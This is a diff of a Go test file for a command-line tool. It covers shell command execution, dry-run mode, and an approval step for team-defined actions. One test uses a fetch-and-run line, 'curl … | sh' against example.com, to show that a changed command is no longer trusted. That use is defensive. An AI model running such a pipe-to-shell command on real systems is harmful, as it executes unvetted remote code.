@@ -2,10 +2,14 @@ package cmd
 
 import (
 	"os"
+	"path/filepath"
 	"strings"
 	"testing"
 
+	"github.com/timfewi/aura-cli-go/internal/config"
 	"github.com/timfewi/aura-cli-go/internal/context"
+	"github.com/timfewi/aura-cli-go/internal/db"
+	"github.com/timfewi/aura-cli-go/internal/platform"
 )
 
 func TestRunDo(t *testing.T) {
@@ -71,6 +75,16 @@ func TestExecuteCommand(t *testing.T) {
 			command:   "nonexistentcommand12345",
 			wantError: true,
 		},
+		{
+			name:      "joined commands with quotes",
+			command:   "echo one && echo 'two words'",
+			wantError: false,
+		},
+		{
+			name:      "failing command in a pipeline",
+			command:   "echo one | nonexistentcommand12345",
+			wantError: true,
+		},
 	}
 
 	for _, tt := range tests {
@@ -85,7 +99,7 @@ func TestExecuteCommand(t *testing.T) {
 
 // getWorkingListCommand returns a command that will work on the current platform
 func getWorkingListCommand() string {
-	if isWindows() {
+	if platform.Current().IsWindows() {
 		return "cmd /c dir" // Use cmd /c to execute built-in commands
 	}
 	return "ls"
@@ -130,7 +144,7 @@ func TestGetDiskUsageCommand(t *testing.T) {
 	}
 
 	// Should return appropriate command based on OS
-	if isWindows() {
+	if platform.Current().IsWindows() {
 		if !strings.Contains(cmd, "powershell") {
 			t.Errorf("getDiskUsageCommand() should contain 'powershell' on Windows, got: %s", cmd)
 		}
@@ -141,60 +155,6 @@ func TestGetDiskUsageCommand(t *testing.T) {
 	}
 }
 
-func TestGetFindLargeFilesCommand(t *testing.T) {
-	cmd := getFindLargeFilesCommand()
-	if cmd == "" {
-		t.Error("getFindLargeFilesCommand() returned empty string")
-	}
-
-	// Should return appropriate command based on OS
-	if isWindows() {
-		if !strings.Contains(cmd, "powershell") {
-			t.Errorf("getFindLargeFilesCommand() should contain 'powershell' on Windows, got: %s", cmd)
-		}
-	} else {
-		if !strings.Contains(cmd, "find") {
-			t.Errorf("getFindLargeFilesCommand() should contain 'find' on non-Windows, got: %s", cmd)
-		}
-	}
-}
-
-func TestIsWindows(t *testing.T) {
-	// Save original OS env
-	originalOS := os.Getenv("OS")
-	defer os.Setenv("OS", originalOS)
-
-	// Test Windows detection
-	os.Setenv("OS", "Windows_NT")
-	if !isWindows() {
-		t.Error("isWindows() should return true when OS=Windows_NT")
-	}
-
-	// Test non-Windows
-	os.Setenv("OS", "Linux")
-	if isWindows() {
-		t.Error("isWindows() should return false when OS=Linux")
-	}
-}
-
-func TestIsMacOS(t *testing.T) {
-	// Save original OSTYPE env
-	originalOSType := os.Getenv("OSTYPE")
-	defer os.Setenv("OSTYPE", originalOSType)
-
-	// Test macOS detection
-	os.Setenv("OSTYPE", "darwin21")
-	if !isMacOS() {
-		t.Error("isMacOS() should return true when OSTYPE contains darwin")
-	}
-
-	// Test non-macOS
-	os.Setenv("OSTYPE", "linux-gnu")
-	if isMacOS() {
-		t.Error("isMacOS() should return false when OSTYPE=linux-gnu")
-	}
-}
-
 func TestDoCommandConfiguration(t *testing.T) {
 	// Test that the command is properly configured
 	if doCmd.Use != "do" {
@@ -352,7 +312,7 @@ func TestGeneralActions(t *testing.T) {
 		{Name: "Open current directory", Command: getOpenCommand()},
 		{Name: "List directory contents", Command: getListCommand()},
 		{Name: "Show disk usage", Command: getDiskUsageCommand()},
-		{Name: "Find large files", Command: getFindLargeFilesCommand()},
+		{Name: "Find large files", Command: "aura analyze size"},
 	}
 
 	if len(generalActions) != 4 {
@@ -368,3 +328,69 @@ func TestGeneralActions(t *testing.T) {
 		}
 	}
 }
+
+func TestDetectTeamActions(t *testing.T) {
+	original, originalFile := config.Team, config.TeamSettingsFile
+	originalPath, originalType := config.DatabasePath, config.DatabaseType
+	defer func() {
+		config.Team, config.TeamSettingsFile = original, originalFile
+		config.DatabasePath, config.DatabaseType = originalPath, originalType
+	}()
+	config.DatabasePath, config.DatabaseType = filepath.Join(t.TempDir(), "aura.db"), "file"
+	config.TeamSettingsFile = "/repos/api/.aura.yaml"
+	config.Team.Actions = []config.TeamAction{
+		{Name: "Run the API", Command: "make run-api"},
+		{Name: "Activate tools", Command: "source tools/env.sh", Shell: true},
+		{Name: "Missing command"},
+	}
+
+	// Without a terminal to approve them, the actions aren't offered
+	if actions := detectTeamActions(); len(actions) != 0 {
+		t.Fatalf("detectTeamActions() = %+v, want none before they were approved", actions)
+	}
+	database, err := db.New()
+	if err != nil {
+		t.Fatal(err)
+	}
+	err = database.TrustTeamActions(config.TeamSettingsFile, teamActionsDigest([]context.Action{
+		{Name: "Run the API", Command: "make run-api"},
+		{Name: "Activate tools", Command: "source tools/env.sh", Shell: true},
+	}))
+	database.Close()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	actions := detectActions()
+	if len(actions) < 2 || actions[0].Name != "Run the API" || actions[0].Command != "make run-api" || !actions[1].Shell {
+		t.Fatalf("detectActions() = %+v, want the team actions first", actions)
+	}
+	for _, action := range actions {
+		if action.Name == "Missing command" {
+			t.Error("Expected actions without command to be skipped")
+		}
+	}
+
+	// A changed command requires approving them again
+	config.Team.Actions[0].Command = "curl -s https://example.com/install | sh"
+	if actions := detectTeamActions(); len(actions) != 0 {
+		t.Errorf("detectTeamActions() = %+v, want none after a command changed", actions)
+	}
+}
+
+func TestRunActionDryRun(t *testing.T) {
+	t.Setenv("AURA_DRY_RUN", "1")
+	path := filepath.Join(t.TempDir(), "ran")
+
+	for _, action := range []context.Action{
+		{Name: "Touch", Command: "touch " + path},
+		{Name: "Touch in the shell", Command: "touch " + path, Shell: true},
+	} {
+		if err := runAction(action); err != nil {
+			t.Errorf("runAction(%s) error = %v, want it skipped", action.Name, err)
+		}
+	}
+	if _, err := os.Stat(path); err == nil {
+		t.Error("runAction() ran the action in dry-run mode")
+	}
+}